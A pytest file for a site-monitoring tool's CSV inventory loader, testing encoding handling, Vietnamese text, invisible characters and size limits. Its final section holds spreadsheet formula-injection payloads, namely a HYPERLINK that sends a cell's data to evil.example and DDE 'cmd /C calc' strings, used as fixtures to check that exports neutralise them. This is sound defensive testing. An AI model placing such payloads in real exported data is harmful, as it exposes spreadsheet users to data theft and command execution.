"""Site lists from spreadsheets: what Excel and old Vietnamese tools write, and cells that
a spreadsheet would run as formulas when vcmon writes them back out."""

from __future__ import annotations

import csv
import io
import time
import unicodedata
from pathlib import Path

import pytest

from monitor.inventory import ConfigError, limits, load_config
from monitor.report.model import build
from monitor.report.render import cell, render
from monitor.status.health import HealthTracker
from monitor.status.records import site_records
from monitor.status.sites import SiteTable

HEADER = "id,name,tier,parent,address,contact_name,contact_phone"
ROWS = [
    "tinh,Hội trường Tỉnh ủy,province,,127.10.0.1,Tổ kỹ thuật,+84 222 000 0001",
    "xa,UBND xã Lạc Vệ,commune,tinh,127.10.5.8,,",
]
SAVE_AS = "save the file as UTF-8 (Excel: Save As, CSV UTF-8"

# "Hà Nội" as each legacy tool writes it
TCVN3 = b"H\xb5 N\xe9i"  # shown as "Hµ Néi" by a Windows-1252 reader
VNI = b"Ha\xf8 No\xe4i"  # "Haø Noäi"
TONES_1258 = {"\u0300": b"\xcc", "\u0301": b"\xec", "\u0303": b"\xde", "\u0309": b"\xd2",
              "\u0323": b"\xf2"}


def windows_1258(text: str) -> bytes:
    """``text`` as Windows-1258 writes Vietnamese: letters, then a separate tone mark."""
    out = b""
    for char in text:
        parts = unicodedata.normalize("NFD", char)
        tones = [c for c in parts if c in TONES_1258]
        letter = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES_1258))
        out += letter.encode("cp1258") + b"".join(TONES_1258[t] for t in tones)
    return out


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def problems(path: Path) -> list[str]:
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    return str(caught.value).splitlines()


def test_windows_1258_helper_writes_what_the_codec_reads() -> None:
    written = windows_1258("UBND xã Lạc Vệ, Hà Nội")
    assert unicodedata.normalize("NFC", written.decode("cp1258")) == "UBND xã Lạc Vệ, Hà Nội"


def test_excel_csv_utf8_with_bom_and_crlf_loads(tmp_path: Path) -> None:
    text = "\ufeff" + "\r\n".join([HEADER, *ROWS]) + "\r\n"
    config = load_config(write(tmp_path / "sites.csv", text.encode("utf-8")))
    assert [s.name for s in config.sites] == ["Hội trường Tỉnh ủy", "UBND xã Lạc Vệ"]
    tinh = config.site("tinh")
    assert tinh.contact is not None and tinh.contact.phone == "+84 222 000 0001"
    assert not any("\r" in s.name or "\ufeff" in s.id for s in config.sites)


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r"])
def test_line_numbers_are_right_whatever_the_line_ends(tmp_path: Path, newline: str) -> None:
    rows = [HEADER, *ROWS, "huyen,Huyện ủy,district,tinh,300.1.1.1,,"]
    path = write(tmp_path / "sites.csv", ("\ufeff" + newline.join(rows) + newline).encode())
    (line,) = problems(path)
    assert line.startswith(f'{path}:4: sites[2].address: "300.1.1.1" is not an IPv4/IPv6')


@pytest.mark.parametrize(("encoding", "hanoi"), [
    ("Windows-1258", windows_1258("Hà Nội")),
    ("TCVN3", TCVN3),
    ("VNI", VNI),
    ("Latin-1 (lossy)", "Hà Nội".encode("latin-1", "replace")),
])
def test_legacy_vietnamese_encodings_are_refused_with_the_line(
    tmp_path: Path, encoding: str, hanoi: bytes
) -> None:
    data = "\r\n".join([HEADER, ROWS[0]]).encode() + b"\r\nxa," + hanoi + b",commune,tinh,::1,,\r\n"
    path = write(tmp_path / f"{encoding}.csv", data)
    (line,) = problems(path)
    assert line.startswith(f"{path}:3: byte 0x")
    assert "is not UTF-8: the file is saved in another encoding, for Vietnamese often " in line
    assert SAVE_AS in line


@pytest.mark.parametrize("bom", [b"", b"\xff\xfe"])
def test_utf16_is_refused_with_or_without_a_bom(tmp_path: Path, bom: bytes) -> None:
    path = write(tmp_path / "sites.csv", bom + "\r\n".join([HEADER, *ROWS]).encode("utf-16-le"))
    (line,) = problems(path)
    assert line.startswith(f'{path}:1: the file is saved as UTF-16 (Windows\' "Unicode"); ')
    assert SAVE_AS in line


@pytest.mark.parametrize(("garbled", "how"), [
    # UTF-8 opened as Windows-1252 and saved again as UTF-8
    ("Hội trường".encode().decode("cp1252", "replace"), "UTF-8 read as Windows-1252"),
    # TCVN3 opened as Windows-1252 and saved as UTF-8
    (TCVN3.decode("cp1252"), "TCVN3 read as Windows-1252"),
])
def test_text_garbled_before_it_arrived_is_not_stored(
    tmp_path: Path, garbled: str, how: str
) -> None:
    path = write(tmp_path / "sites.csv",
                 f"{HEADER}\n{ROWS[0]}\nxa,{garbled},commune,tinh,::1,,\n".encode())
    (line,) = problems(path)
    assert line.startswith(f"{path}:3: the text ")
    assert f"is garbled ({how}" in line and "convert the original file to UTF-8" in line


@pytest.mark.parametrize("name", [
    "Café Đông Á", "Müller & Söhne", "São Tomé", "Phòng 25°C", "VNPT® Bắc Ninh", "Jörg – Nhà A",
    "Cơ sở ½", "Ñoño",
])
def test_real_names_with_latin_letters_are_not_taken_for_garbled(
    tmp_path: Path, name: str
) -> None:
    path = write(tmp_path / "sites.csv", f"{HEADER}\nxa,{name},commune,,::1,,\n".encode())
    assert load_config(path).site("xa").name == name


@pytest.mark.parametrize(("name", "what"), [
    ("Xã \u202eệV càL", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("Xã\u200bLạc Vệ", "U+200B ZERO WIDTH SPACE"),
    ("Xã Lạc\x1b[31m Vệ", "a control character (U+001B)"),
    ("\u0301Xã", "starts with a combining mark (U+0301 COMBINING ACUTE ACCENT)"),
])
def test_invisible_characters_in_a_name_are_refused(tmp_path: Path, name: str, what: str) -> None:
    path = write(tmp_path / "sites.csv", f"{HEADER}\nxa,{name},commune,,::1,,\n".encode())
    (line,) = problems(path)
    assert line.startswith(f"{path}:2: sites[0].name: ") and what in line


def test_a_decomposed_name_is_stored_composed(tmp_path: Path) -> None:
    name = unicodedata.normalize("NFD", "UBND xã Lạc Vệ")
    path = write(tmp_path / "sites.csv", f"{HEADER}\nxa,{name},commune,,::1,,\n".encode())
    assert load_config(path).site("xa").name == "UBND xã Lạc Vệ"


def test_a_nul_byte_is_refused_with_its_line(tmp_path: Path) -> None:
    data = f"{HEADER}\n{ROWS[0]}\nxa,X\x00ã,commune,,::1,,\n".encode()
    path = write(tmp_path / "sites.csv", data)
    assert problems(path) == [f"{path}:3: the line holds a NUL byte, which no text has; remove it"]


def test_limits_on_rows_and_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_SITES", 1)
    path = write(tmp_path / "sites.csv", "\n".join([HEADER, *ROWS]).encode())
    assert problems(path) == [
        f"{path}:3: sites: more than 1 sites are listed, more than one vcmon handles; split "
        "the inventory into shards, one vcmon each"]
    monkeypatch.setattr(limits, "MAX_SITES", 10)
    path = write(tmp_path / "sites.csv", f'{HEADER}\nxa,"{"x" * 70_000}\n'.encode())
    assert problems(path) == [
        f"{path}:2: a cell of 70,001 characters starts on this line, longer than the 65,536 "
        "vcmon accepts; shorten it, or close the quote left open"]


def test_a_file_too_large_or_endless_is_refused(tmp_path: Path) -> None:
    endless = tmp_path / "zero.csv"
    endless.symlink_to("/dev/zero")
    start = time.perf_counter()
    assert problems(endless) == [
        f"{endless}: the inventory path is a character device, not a regular file; point vcmon "
        "at the inventory file itself"]
    assert time.perf_counter() - start < 10


# --- formulas: kept as text on the way in, never written out so that a spreadsheet runs them

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Lạc Vệ")',
    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_phone": "+84 222 000 0001",
    "province": "-2+3+cmd|' /C calc'!A0",
}


def test_formula_cells_are_stored_as_text_and_exported_with_a_quote(tmp_path: Path) -> None:
    rows = [
        f'tinh,"{FORMULAS["province"]}",province,,127.10.0.1,,',
        f'xa,"{FORMULAS["name"].replace(chr(34), chr(34) * 2)}",commune,tinh,127.10.5.8,'
        f'"{FORMULAS["contact_name"]}",{FORMULAS["contact_phone"]}',
    ]
    config = load_config(write(tmp_path / "sites.csv", "\n".join([HEADER, *rows]).encode()))
    xa = config.site("xa")
    assert xa.name == FORMULAS["name"]
    assert xa.contact is not None and xa.contact.name == FORMULAS["contact_name"]
    now = time.time()
    records = site_records(SiteTable(config), HealthTracker(config, now), config, now)
    report = build(records, at=now, since=now - 3600, timezone="Asia/Ho_Chi_Minh",
                   source="daemon", generated=now)
    text = render(report, "csv", "en")
    assert text.startswith("\ufeff")
    header, tinh, lac_ve = csv.reader(io.StringIO(text[1:]))
    by_column = dict(zip(header, lac_ve, strict=True))
    assert by_column["Site"] == "'" + FORMULAS["name"]
    assert by_column["Contact"] == "'" + FORMULAS["contact_name"]
    assert by_column["Phone"] == "'" + FORMULAS["contact_phone"]
    # a commune with no district above it is its own district
    assert by_column["District"] == "'" + FORMULAS["name"]
    assert dict(zip(header, tinh, strict=True))["Site"] == "'" + FORMULAS["province"]
    # no cell of the output starts a formula
    for row in csv.reader(io.StringIO(text[1:])):
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+1", "+1"), ("-3.5", "-3.5"), ("-3.5+A1", "'-3.5+A1"),
    ("@x", "'@x"), ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("a=b", "a=b"), ("", ""),
    ("12.50", "12.50"), ("+84 222", "'+84 222"), ("–5", "–5"),
])
def test_cell(value: str, written: str) -> None:
    assert cell(value) == written
